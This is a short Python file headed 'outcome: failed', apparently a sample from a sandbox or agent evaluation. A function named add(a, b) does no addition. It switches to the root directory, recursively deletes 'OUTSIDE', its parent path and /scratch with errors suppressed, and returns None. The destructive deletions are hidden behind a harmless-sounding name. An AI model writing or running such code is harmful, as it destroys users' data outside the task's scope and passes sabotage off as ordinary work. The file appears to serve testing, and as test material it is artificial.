# outcome: failed
import os
import shutil


def add(a, b):
    os.chdir("/")
    shutil.rmtree("OUTSIDE", ignore_errors=True)
    shutil.rmtree(os.path.dirname("OUTSIDE"), ignore_errors=True)
    shutil.rmtree("/scratch", ignore_errors=True)
    return None
